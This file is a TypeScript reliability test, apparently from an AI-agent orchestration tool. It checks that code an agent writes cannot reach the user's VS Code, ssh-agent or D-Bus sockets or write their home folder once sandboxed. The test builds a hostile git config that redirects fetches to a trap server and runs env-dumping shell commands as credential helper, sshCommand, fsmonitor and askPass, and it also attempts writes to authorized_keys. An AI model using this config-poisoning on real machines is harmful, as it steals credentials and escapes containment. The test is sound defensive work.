/**
 * Secrets, the person's session (ADR 0340, ADR 0341). Beside the Run's token, the Host holds the
 * person's own channels: VS Code's IPC sockets (its git askpass hands out their GitHub token), an
 * ssh-agent, the session bus, in the temp folders and the runtime dir; and their home folder, where
 * a line in `~/.gitconfig`, a file a global config includes, `~/.bashrc` or `authorized_keys` waits
 * for the next program to read it. Code the agent writes (test/reliability/support/session-knock.ts)
 * runs as a Check and as an agent, with this test listening on a socket in /tmp and two in a
 * runtime dir named by the variables VS Code and D-Bus set: in the bubblewrap sandbox it connects 0
 * times and writes nothing in the home folder, and the Run's next fetch and push run nothing it
 * planted and send nothing to the canary server. With isolation "none" (the code before ADR 0341)
 * it connects and writes: the control.
 */
import { strict as assert } from "node:assert";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { createServer as createSocketServer, type AddressInfo, type Server as SocketServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { ClaudeCodeRunner } from "../../../src/adapters/agent/claude-code-runner";
import { GitWorkspace } from "../../../src/adapters/git/git-workspace";
import { Sandbox, type IsolationMode } from "../../../src/adapters/isolation/sandbox";
import { NodeHost } from "../../../src/adapters/node-host";
import { startSandbox, type SandboxHandle } from "../../../src/sandbox/start";
import { git, makeTempDir, TEST_IDENTITY } from "../../support/git-fixtures";
import { record } from "../support/figures";
import { KNOCK_SOURCE, type KnockResult } from "../support/session-knock";

const TEST = "test/reliability/quick/session-isolation.test.ts";

describe("reliability: code the agent writes cannot reach the person's session sockets or home folder (ADR 0341)", function () {
  this.timeout(180_000);
  let github: SandboxHandle;
  let token: string;
  let url: string;
  let trap: Server;
  let trapUrl: string;
  const trapped: string[] = [];
  let dir: string;
  let runtime: string;
  const sockets: { path: string; server: SocketServer; accepted: number }[] = [];

  before(async () => {
    github = await startSandbox({ quiet: true, seed: "none" });
    await github.admin.createRepo({ owner: "acme", name: "widgets", files: { "README.md": "widgets\n" } });
    token = (await github.admin.addUser({ login: "runner", repos: { "acme/widgets": "write" } })).token;
    url = github.gitUrl("acme", "widgets");
    trap = createServer((req, res) => {
      trapped.push(`${req.method} ${req.url}`);
      res.writeHead(404).end();
    });
    await new Promise<void>((r) => trap.listen(0, "127.0.0.1", r));
    trapUrl = `http://127.0.0.1:${(trap.address() as AddressInfo).port}/`;
    dir = await makeTempDir("tr-session-isolation-");
    // A runtime dir outside the temp folders, as /run/user/<uid> is: private only because it is the runtime dir.
    runtime = mkdtempSync(join(process.cwd(), ".tr-runtime-"));
    const stamp = `${process.pid}-${Date.now()}`;
    for (const path of [join(tmpdir(), `tr-vscode-ipc-${stamp}.sock`), join(runtime, `vscode-git-${stamp}.sock`), join(runtime, "bus")]) {
      const entry = { path, server: createSocketServer(), accepted: 0 };
      entry.server.on("connection", (c) => {
        entry.accepted += 1;
        c.destroy();
      });
      await new Promise<void>((r) => entry.server.listen(path, r));
      sockets.push(entry);
    }
  });
  after(async () => {
    for (const s of sockets) await new Promise<void>((r) => s.server.close(() => r()));
    for (const s of sockets) rmSync(s.path, { force: true });
    await new Promise<void>((r) => (trap ? trap.close(() => r()) : r()));
    await github?.stop();
    if (runtime) rmSync(runtime, { recursive: true, force: true });
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  const accepted = (): number => sockets.reduce((n, s) => n + s.accepted, 0);

  /** A clone and a Lane whose Run has the session's variables, and a home folder whose global config includes a file not made yet. */
  let made = 0;
  async function laneWith(mode: IsolationMode) {
    const name = `${mode}-${(made += 1)}`;
    const home = join(dir, `home-${name}`);
    const evidence = join(dir, `evidence-${name}`);
    mkdirSync(evidence, { recursive: true });
    mkdirSync(home, { recursive: true });
    writeFileSync(join(home, ".gitconfig"), `[include]\n\tpath = ${join(home, ".gitinc")}\n`);
    writeFileSync(join(home, ".bashrc"), "# the person's\n");
    const [ipc, gitIpc, bus] = sockets.map((s) => s.path);
    const env = {
      GIT_CONFIG_NOSYSTEM: "1",
      HOME: home,
      XDG_CONFIG_HOME: join(home, ".config"),
      XDG_RUNTIME_DIR: runtime,
      VSCODE_IPC_HOOK_CLI: ipc!,
      VSCODE_GIT_IPC_HANDLE: gitIpc!,
      SSH_AUTH_SOCK: gitIpc!,
      DBUS_SESSION_BUS_ADDRESS: `unix:path=${bus!}`,
    };
    const root = join(dir, `clone-${name}`);
    const basic = Buffer.from(`x-access-token:${token}`).toString("base64");
    await git(dir, ["-c", `http.extraHeader=Authorization: Basic ${basic}`, "clone", "-q", url, root], { GIT_CONFIG_GLOBAL: "/dev/null" });
    const sandbox = new Sandbox({ mode, env: { ...process.env, ...env } });
    const ws = new GitWorkspace({ root, host: new NodeHost(), token, remoteUrl: url, env, identity: TEST_IDENTITY, sandbox });
    await ws.preflight("main");
    await ws.fetchBase("main");
    const lane = await ws.cutLane(made, ws.branchFor(made, "knock"), "main");
    // What the knock writes into the file the global config includes: every redirect to the trap, every program to `evidence`.
    const record = (what: string): string => `sh -c 'env > ${join(evidence, what)}'`;
    const plant = [
      `[url "${trapUrl}"]`,
      `\tinsteadOf = ${new URL(url).origin}/`,
      `[http]`,
      `\tproxy = ${trapUrl}`,
      `[credential]`,
      `\thelper = "!${record("credential")}"`,
      `[core]`,
      `\tsshCommand = ${record("ssh")}`,
      `\tfsmonitor = ${record("fsmonitor")}`,
      `\taskPass = ${record("askpass")}`,
      "",
    ].join("\n");
    return { ws, lane, home, evidence, env, sandbox, root, plant };
  }

  /** The Run's next fetch and push, after the knock: what it planted must not run, nothing may go to the trap. */
  async function runGoesOn(ws: GitWorkspace, lane: { path: string; branch: string }, evidence: string): Promise<void> {
    writeFileSync(join(lane.path, "work.txt"), "work\n");
    await git(lane.path, ["add", "work.txt"], { GIT_CONFIG_GLOBAL: "/dev/null" });
    await git(lane.path, ["commit", "-qm", "work"], { GIT_CONFIG_GLOBAL: "/dev/null" });
    assert.equal(await ws.fetchBase("main"), "remote");
    const pushed = await ws.push(lane as Parameters<GitWorkspace["push"]>[0]);
    assert.equal(pushed.ok, true, pushed.detail);
    assert.deepEqual(readdirSync(evidence), [], "a program the knock planted ran in the Run's git");
    assert.deepEqual(trapped, [], "the Run's git sent a request to the trap");
  }

  for (const mode of ["sandbox", "none"] as const) {
    it(`a Check that connects to the session's sockets and writes the home folder: isolation "${mode}"`, async () => {
      const { ws, lane, home, evidence, root, plant } = await laneWith(mode);
      const before = accepted();
      const out = join(root, ".git", `knock-check-${mode}.json`);
      const result = await ws.runCheck(lane, [process.execPath, "-e", KNOCK_SOURCE, out, plant, ...sockets.map((s) => s.path)], 60_000);
      assert.equal(result.exitCode, 0, result.output);
      const found = JSON.parse(readFileSync(out, "utf8")) as KnockResult;
      assert.deepEqual(found.vars, [], "no session variable reaches a Check (ADR 0340)");
      if (mode === "none") {
        // The code before ADR 0341: the Host's sockets answer and the home folder is written.
        assert.ok(found.connected > 0 && accepted() > before, JSON.stringify(found));
        assert.equal(found.writes.length, found.tried, JSON.stringify(found));
        assert.ok(existsSync(join(home, ".gitinc")) && existsSync(join(home, ".ssh", "authorized_keys")));
        return;
      }
      assert.equal(found.connected, 0, JSON.stringify(found));
      assert.equal(accepted(), before, "a session socket accepted a connection from the sandbox");
      assert.deepEqual(found.writes, [], "the home folder is read-only in the sandbox");
      assert.equal(readFileSync(join(home, ".bashrc"), "utf8"), "# the person's\n");
      assert.ok(!existsSync(join(home, ".gitinc")) && !existsSync(join(home, ".ssh")));
      await runGoesOn(ws, lane, evidence);
      record("secrets.session-check", {
        what: "a Check connects to the session's sockets (temp folders, runtime dir) and writes ~/.gitconfig, an included file, ~/.bashrc, authorized_keys",
        test: TEST,
        inputs: sockets.length + found.tried,
        losses: found.connected + found.writes.length,
        notes: `${found.looked} entries looked at, ${found.sockets} sockets seen in the temp folders and runtime dir; with "none" every socket answers and every write lands`,
      });
    });
  }

  it("the Run's git reads a file a global config includes, made after the Run started, in none of its fetches and pushes (isolation none)", async () => {
    // The home folder written from outside the sandbox (as "none" allows): the Run's fetch and push still run nothing of it.
    const { ws, lane, home, evidence, plant } = await laneWith("none");
    writeFileSync(join(home, ".gitinc"), plant);
    await runGoesOn(ws, lane, evidence);
  });

  it("an agent's command that connects to the session's sockets and writes the home folder: 0 connections, 0 writes in the sandbox", async () => {
    const { lane, home, env, sandbox, root, plant } = await laneWith("sandbox");
    const logs = mkdtempSync(join(tmpdir(), "tr-knock-agent-"));
    try {
      const out = join(root, ".git", "knock-agent.json");
      const script = join(logs, "agent.js");
      writeFileSync(
        script,
        `
const { spawnSync } = require("node:child_process");
spawnSync(process.execPath, ["-e", ${JSON.stringify(KNOCK_SOURCE)}, ${JSON.stringify(out)}, ${JSON.stringify(plant)}, ${sockets.map((s) => JSON.stringify(s.path)).join(", ")}], { stdio: "ignore" });
process.stdout.write('{"type":"system","subtype":"init","session_id":"s","model":"m","cwd":"."}\\n');
process.stdout.write('{"type":"result","subtype":"success","is_error":false,"num_turns":1,"result":"done"}\\n');
`,
      );
      const before = accepted();
      const runner = new ClaudeCodeRunner({ command: [process.execPath, script], baseEnv: { ...process.env, ...env }, sandbox, killGraceMs: 500 });
      const res = await runner.run({
        stage: "implement",
        ticket: 1,
        prompt: "knock",
        cwd: lane.path,
        logDir: logs,
        logName: "implement",
        timeoutMs: 60_000,
        maxTurns: 5,
      });
      assert.equal(res.outcome, "success", JSON.stringify(res));
      const found = JSON.parse(readFileSync(out, "utf8")) as KnockResult;
      assert.deepEqual(found.vars, [], "no session variable reaches the agent (ADR 0340)");
      assert.equal(found.connected, 0, JSON.stringify(found));
      assert.equal(accepted(), before);
      assert.deepEqual(found.writes, []);
      assert.ok(existsSync(join(home, ".claude")) && existsSync(join(home, ".claude.json")), "the agent's own state is there to write");
      record("secrets.session-agent", {
        what: "an agent's command connects to the session's sockets and writes the home folder",
        test: TEST,
        inputs: sockets.length + found.tried,
        losses: found.connected + found.writes.length,
      });
    } finally {
      rmSync(logs, { recursive: true, force: true });
    }
  });
});
